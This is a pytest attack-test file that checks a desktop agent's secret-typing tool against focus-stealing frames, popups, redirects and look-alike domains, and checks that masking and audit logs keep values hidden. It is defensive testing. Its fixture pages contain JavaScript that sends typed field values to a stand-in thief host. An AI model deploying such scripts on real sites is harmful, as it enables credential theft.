"""Attacks on the secrets that agents type: pages that want another site's value, and the mask."""

import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import httpx2
import pytest

from deskhand.tools.kit.type_secret import NOWHERE
from tests.attack.test_private_take_over import PLACES, seen, spies_in
from tests.live_trees import contents_below
from tests.system.reporting_page import PageHandler, serving
from tests.system.services import DESKHAND, PATIENCE, Json, Service, service, tidy, until
from tests.system.typing_targets import TextView

pytestmark = [pytest.mark.attack, pytest.mark.root, pytest.mark.x11]

TREE = "/api/v0/desktop/accessibility"
VALUE = "q7Zr-Lm2x-Vt9k-Hp4w-Nc6y"
DELAY_MS = 40
"""Pause after each character, so that a page has the time to move the focus."""
BANK, THIEF, LOOK_ALIKE = "bank.localhost", "thief.localhost", "xn--bnk-ula.localhost"
SECRETS = "/api/v0/secrets"
ACTION = "/api/v0/desktop/action"

FIELD = "<input autocomplete=username autofocus aria-label=Pass style='width:60%;font-size:30px'>"
REPORT = """<script>
const field = document.querySelector("input");
const report = () => {
  document.title = field.value || document.title;
  fetch("http://thief.localhost:PORT/bytes", {method: "POST", mode: "no-cors", body: field.value});
};
field.addEventListener("input", report);
field.addEventListener("keydown", report);
</script>"""
FIRST = """<script>
let first = true;
document.querySelector("input").addEventListener("input", () => {
  if (first) { first = false; fetch("/first"); STEAL }
});
</script>"""
PAGES = {
    (BANK, "/frame"): "<title>Bank</title>"
    + FIELD
    + FIRST.replace("STEAL", "")
    + "<iframe src='http://thief.localhost:PORT/waiting' allow='*' width=800 height=300></iframe>",
    (BANK, "/popup"): "<title>Bank</title>"
    + FIELD
    + FIRST.replace("STEAL", "open('http://thief.localhost:PORT/now', '', 'popup');"),
    (BANK, "/redirect"): "<title>Bank</title>"
    + FIELD
    + FIRST.replace("STEAL", "location = 'http://thief.localhost:PORT/now';"),
    (BANK, "/plain"): "<title>Bank</title>" + FIELD,
    (THIEF, "/waiting"): "<title>Frame</title>"
    + FIELD.replace("autofocus aria-label=Pass", "aria-label=Thief")
    + REPORT
    + "<script>fetch('/after-first').then(() => field.focus());</script>",
    (THIEF, "/now"): "<title>bank.localhost</title>" + FIELD + REPORT,
    (LOOK_ALIKE, "/now"): "<title>bank.localhost</title>" + FIELD + REPORT,
}


class Sites:
    """The web servers of the bank and of the thief, and the bytes that the thief has received."""

    def __init__(self) -> None:
        self.first = threading.Event()
        self.stolen: list[str] = []
        self.port = 0

    def url(self, host: str, path: str) -> str:
        return f"http://{host}:{self.port}{path}"

    def page(self, host: str, path: str) -> str:
        return PAGES.get((host, path), "").replace("PORT", str(self.port))

    def handler(self) -> type[PageHandler]:
        sites = self

        class Handler(PageHandler):
            def do_GET(self) -> None:
                host = self.headers["Host"].partition(":")[0]
                if self.path == "/first":
                    sites.first.set()
                if self.path == "/after-first":
                    sites.first.wait(PATIENCE)
                self.answer(sites.page(host, self.path).encode())

            def do_POST(self) -> None:
                sites.stolen.append(self.body())
                self.answer(b"")

        return Handler


@pytest.fixture
def sites() -> Iterator[Sites]:
    """Both sites on one port of the loopback; Chromium resolves all names below localhost."""
    found = Sites()
    with serving(found.handler()) as found.port:
        yield found
        found.first.set()


@pytest.fixture
def desktop(tmp_path: Path) -> Iterator[Service]:
    """A desktop whose browser reports its widgets from the start."""
    with tidy(tmp_path / "errors.log") as found:
        found.get(TREE)
        yield found


def every(nodes: list[Json]) -> Iterator[Json]:
    for node in nodes:
        yield node
        yield from every(node.get("children", []))


def field_focused(desktop: Service) -> bool:
    nodes = every(desktop.get(TREE)["applications"])
    return any(n.get("name") == "Pass" and "focused" in n.get("states", ()) for n in nodes)


def field_ref(desktop: Service) -> str:
    nodes = every(desktop.get(TREE)["applications"])
    return next((str(n["ref"]) for n in nodes if n.get("name") == "Pass"), "")


def enter_field(desktop: Service) -> bool:
    desktop.http.post(ACTION, json={"action": "left_click", "ref": field_ref(desktop)})
    return field_focused(desktop)


def leave_field(desktop: Service) -> bool:
    desktop.act(action="key", text="Tab")
    return not field_focused(desktop)


def browse(desktop: Service, url: str) -> None:
    """Open a page, and return when its field has the focus and the desktop knows that.

    Each action is repeated until it has its effect: a browser drops input that arrives before the
    first paint of a page, which comes after the focus on a busy machine.
    """
    command = f"browser '{url}' > /dev/null 2>&1 &"
    desktop.post("/api/v0/processes/start", {"command": command})
    until(lambda: field_ref(desktop), "the field")
    until(lambda: enter_field(desktop), "the focus in the field")
    # There and back: the browser may have sent its event before the desktop had subscribed.
    until(lambda: leave_field(desktop), "the focus beside the field")
    until(lambda: enter_field(desktop), "the focus in the field again")


def output(desktop: Service, command: str) -> str:
    process = desktop.post("/api/v0/processes/start", {"command": command})["id"]
    return str(desktop.get(f"/api/v0/processes/{process}/output?wait=true")["output"])


def type_for_bank(desktop: Service, host: str = f"http://{BANK}") -> tuple[int, Json]:
    """Type the value for pages of the bank only, as ``type_secret`` does, but slowly."""
    wanted = {"action": "type", "text": VALUE, "hosts": [host], "delay_ms": DELAY_MS}
    answer = desktop.http.post(ACTION, json=wanted, timeout=3 * PATIENCE)
    return answer.status_code, answer.json()


def pieces(value: str) -> list[str]:
    """Return the pieces of a value of which a thief must not have a single one.

    The focus is checked after every 8 characters at the latest.
    """
    return [value[at : at + 9] for at in range(len(value) - 8)]


def assert_nothing_stolen(desktop: Service, sites: Sites) -> None:
    # The titles show what pages that may not send anything have received.
    shown = str([node.get("name", "") for node in every(desktop.get(TREE)["applications"])])
    taken = [text for text in (*sites.stolen, shown) if any(one in text for one in pieces(VALUE))]
    assert not taken, f"the thief has {taken}"


@pytest.mark.slow("a browser, and a text that is typed slowly")
@pytest.mark.parametrize("way", ["frame", "popup", "redirect"])
def test_a_page_that_moves_the_focus_while_a_secret_is_typed_receives_nothing(
    desktop: Service, sites: Sites, way: str
) -> None:
    browse(desktop, sites.url(BANK, f"/{way}"))
    type_for_bank(desktop)
    assert sites.first.wait(PATIENCE), "the bank's field received nothing"
    assert_nothing_stolen(desktop, sites)


@pytest.mark.slow("a browser, and a text that is typed slowly")
@pytest.mark.parametrize(
    "place",
    [
        pytest.param(place, marks=() if place in ("command", "window") else pytest.mark.full)
        for place in PLACES
    ],
)
def test_a_spy_of_the_agent_learns_nothing_while_a_secret_is_typed(
    desktop: Service, sites: Sites, place: str
) -> None:
    # The page opens on top of the windows of the spy.
    spies = spies_in(desktop, place)
    browse(desktop, sites.url(BANK, "/plain"))
    desktop.act(action="left_click", ref=field_ref(desktop))
    until(lambda: field_focused(desktop), "the focus in the field")
    before = len(spies.lines(place))
    assert type_for_bank(desktop)[0] == 200
    typed = len(spies.lines(place))
    assert seen(spies.lines(place)[before:typed]) == []
    # It runs again, and had its chance to read what the kernel kept for it.
    spies.wait_alive(place, typed)
    assert not [line for line in spies.lines(place)[typed:] if line.startswith("key ")]


@pytest.mark.slow("a browser that starts")
def test_a_frame_of_another_site_in_the_page_is_not_typed_into(
    desktop: Service, sites: Sites
) -> None:
    browse(desktop, sites.url(BANK, "/frame"))
    sites.first.set()
    until(lambda: not field_focused(desktop), "the focus in the frame")
    status, answer_body = type_for_bank(desktop)
    assert (status, answer_body["code"]) == (409, "foreign_host")
    assert_nothing_stolen(desktop, sites)
    # The control: without hosts the frame receives what is typed.
    desktop.act(action="type", text="control")
    until(lambda: "control" in str(sites.stolen), "the text of the control")


@pytest.mark.slow("a browser that starts")
@pytest.mark.parametrize(
    "way",
    [
        *("look-alike", "data", "unencrypted"),
        *(pytest.param(way, marks=pytest.mark.full) for way in ("title", "file")),
    ],
)
def test_a_page_that_imitates_another_site_is_not_typed_into(
    desktop: Service, sites: Sites, way: str
) -> None:
    page = sites.page(THIEF, "/now")
    match way:
        case "look-alike":
            url = sites.url(LOOK_ALIKE, "/now")
        case "title":
            url = sites.url(THIEF, "/now")
        case "unencrypted":
            # As with the browser's own resolver rules (--host-resolver-rules), which need no
            # certificate of the name that they imitate.
            url = sites.url(BANK, "/plain")
        case "data":
            url = "data:text/html," + page.replace("'", '"').replace("\n", " ")
        case _:
            home = output(desktop, "echo $HOME").strip()
            wanted = {"path": f"{home}/bank.localhost.html"}
            answer = desktop.http.post("/api/v0/write-file", params=wanted, content=page.encode())
            assert answer.is_success, answer.text
            url = f"file://{wanted['path']}"
    browse(desktop, url)
    wanted_host = BANK if way == "unencrypted" else f"http://{BANK}"
    status, answer_body = type_for_bank(desktop, wanted_host)
    assert (status, answer_body["code"]) == (409, "foreign_host")
    assert_nothing_stolen(desktop, sites)
    if way == "unencrypted":
        # The control: an entry that states it admits the page.
        assert type_for_bank(desktop)[0] == 200
        return
    # The control: without hosts the same field receives what is typed.
    desktop.act(action="type", text="control")
    until(lambda: "control" in str(desktop.get(TREE)), "the text of the control")


def test_a_field_that_takes_a_value_at_once_gets_it_without_keystrokes(desktop: Service) -> None:
    # The programs that a command started are stopped while a value is typed.
    view = TextView(desktop, installed=True)
    # As keystrokes the texts would take seconds, and the second one longer than its request may.
    slowly: Json = {"action": "type", "protected": True, "delay_ms": 1000}

    def is_filled() -> bool:
        took = desktop.act(**slowly, text="ab")["timings"]["act_ms"]
        # Only an empty field is filled: keystrokes of before its focus was known would stay in it.
        view.held()
        return bool(took < 1000)

    until(is_filled, "the known focus")
    desktop.act(**slowly, text=VALUE)
    assert view.received("") == VALUE


@contextmanager
def control_plane(folder: Path) -> Iterator[Service]:
    data = str(folder / "data")
    with service(
        folder / "errors.log", "up", "--data-dir", data, "--listen", "127.0.0.1:0"
    ) as found:
        yield found


def run(plane: Service, chat: str, command: str) -> str:
    answer = plane.http.post(
        "/api/v0/tools/execute",
        json={"command": command},
        headers={"Deskhand-Chat-Id": chat},
        timeout=3 * PATIENCE,
    )
    return str(answer.json())


def new_chat(plane: Service, title: str) -> str:
    return str(plane.post("/api/v0/chats", {"title": title})["id"])


MASK = "••••"
PIN: Json = {"value": "4821", "domains": [BANK]}


@pytest.mark.slow("a control plane and its default desktop")
def test_the_mask_tells_a_chat_nothing_about_a_pin_that_it_was_not_given(tmp_path: Path) -> None:
    with control_plane(tmp_path) as plane:
        owner, other = new_chat(plane, "owner"), new_chat(plane, "other")
        assert plane.http.put(f"{SECRETS}/pin", json={**PIN, "chats": [owner]}).is_success
        output = run(plane, other, "seq 4000 4999")
        assert "4820\\n4821\\n4822" in output
        assert MASK not in output
        # The control: its own chat does not read the value.
        assert f"4820\\n{MASK}\\n4822" in run(plane, owner, "seq 4000 4999")


@pytest.mark.slow("a control plane and its default desktop")
def test_a_person_is_notified_once_of_a_chat_that_probes_the_mask(tmp_path: Path) -> None:
    with control_plane(tmp_path) as plane:
        owner = new_chat(plane, "owner")
        assert plane.http.put(f"{SECRETS}/pin", json={**PIN, "chats": [owner]}).is_success
        probe = "for i in $(seq 30); do echo 4821; done"
        for _ in range(3):
            assert MASK in run(plane, owner, probe)

        def notices() -> list[Json]:
            records: list[Json] = plane.get("/api/v0/audit")["records"]
            return [one for one in records if one["action"] == "secret.masked_often"]

        until(notices, "the notice")
        (notice,) = notices()
        assert notice["subject"] == "pin"
        assert "4821" not in plane.http.get("/api/v0/audit").text


@pytest.mark.slow("a control plane")
def test_a_secret_without_domains_is_typed_only_where_a_person_has_stated_that(
    tmp_path: Path,
) -> None:
    with control_plane(tmp_path) as plane:
        refused = plane.http.put(f"{SECRETS}/mail", json={"value": VALUE})
        assert refused.status_code == 400, refused.text
        stated = {"value": VALUE, "anywhere": True}
        assert plane.http.put(f"{SECRETS}/mail", json=stated).is_success
        short: dict[str, Any] = {"value": "4821", "anywhere": True}
        assert plane.http.put(f"{SECRETS}/pin", json=short).status_code == 400


@pytest.mark.slow("a control plane")
def test_a_reader_of_the_data_directory_finds_no_value(tmp_path: Path) -> None:
    with control_plane(tmp_path) as plane:
        wanted = {"value": VALUE, "domains": [BANK]}
        assert plane.http.put(f"{SECRETS}/mail", json=wanted).is_success
        contents = contents_below(tmp_path / "data")
        assert contents
        assert not [one for one, content in contents.items() if VALUE.encode() in content]


@pytest.mark.slow("a control plane and a desktop")
def test_the_audit_log_has_who_did_what_and_no_value(tmp_path: Path) -> None:
    with control_plane(tmp_path) as plane:
        desktop = plane.post("/api/v0/desktops", {})["id"]
        wanted = {"value": VALUE, "anywhere": True}
        assert plane.http.put(f"{SECRETS}/mail", json=wanted).is_success
        scopes = {"name": "guest", "scopes": [f"desktop:{desktop}:control"]}
        token = plane.post("/api/v0/tokens", scopes)["token"]
        guest = {"Authorization": f"Bearer {token}"}
        below = f"/api/v0/desktops/{desktop}/desktop"
        press = {"action": "key", "text": "shift"}
        assert plane.http.post(f"{below}/action", json=press, headers=guest).is_success
        take = {"action": "take", "name": "Ada"}
        assert plane.http.post(f"{below}/lease", json=take, headers=guest).is_success
        release = {"action": "release", "name": "Ada"}
        assert plane.http.post(f"{below}/lease", json=release, headers=guest).is_success
        code = plane.post("/api/v0/login/codes", {})["code"]
        assert httpx2.post(f"{plane.url}/api/v0/login", json={"code": code}).is_success
        assert httpx2.post(f"{plane.url}/api/v0/login", json={"code": "x"}).status_code == 401
        chat = new_chat(plane, "chat")
        typed = plane.http.post(
            "/api/v0/tools/type_secret", json={"name": "mail"}, headers={"Deskhand-Chat-Id": chat}
        )
        # Its desktop has no window, so the value went nowhere.
        assert typed.json()["result"] == {"typed": "mail", "warning": NOWHERE}, typed.text
        seed = "GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ"
        codes = {"value": f"otpauth://totp/x?secret={seed}", "kind": "totp", "anywhere": True}
        assert plane.http.put(f"{SECRETS}/code", json=codes).is_success
        code = plane.http.post(
            "/api/v0/tools/type_secret", json={"name": "code"}, headers={"Deskhand-Chat-Id": chat}
        )
        assert 5 <= code.json()["result"].pop("expires_in_s") <= 30, code.text
        records = plane.get("/api/v0/audit")["records"]
        found = {(one["actor"], one["action"], one["subject"]) for one in records}
        assert found >= {
            ("guest", "desktop.request", desktop),
            ("guest", "desktop.take_over", desktop),
            ("guest", "desktop.hand_back", desktop),
            ("browser", "signed_in", ""),
            ("", "sign_in.refused", ""),
            (f"chat:{chat}", "secret.typed", "mail"),
            (f"chat:{chat}", "secret.typed", "code"),
        }
        assert VALUE not in str(records)
        assert seed not in str(records)
        assert plane.http.get("/api/v0/audit", headers=guest).status_code == 403
        listed = deskhand_audit(tmp_path)
        assert f"guest  desktop.take_over  {desktop}" in listed
        assert VALUE not in listed
        assert deskhand_audit(tmp_path, "--verify").startswith("intact")


def deskhand_audit(folder: Path, *options: str) -> str:
    command = [DESKHAND, "audit", *options, "--data-dir", str(folder / "data")]
    return subprocess.run(command, capture_output=True, text=True, check=True).stdout


@pytest.mark.slow("a control plane and a desktop")
def test_a_token_for_a_desktop_does_not_clear_its_masks(tmp_path: Path) -> None:
    with control_plane(tmp_path) as plane:
        control = plane.post("/api/v0/desktops", {})["id"]
        token = plane.post("/api/v0/tokens", {"scopes": [f"desktop:{control}:control"]})["token"]
        path = f"/api/v0/desktops/{control}/desktop/secrets"
        guest = {"Authorization": f"Bearer {token}"}
        assert plane.http.post(path, json={"values": [VALUE]}).is_success
        assert plane.http.delete(path, headers=guest).status_code == 403
        assert plane.http.get(path, headers=guest).status_code == 403
        assert plane.get(path) == {"count": 1}
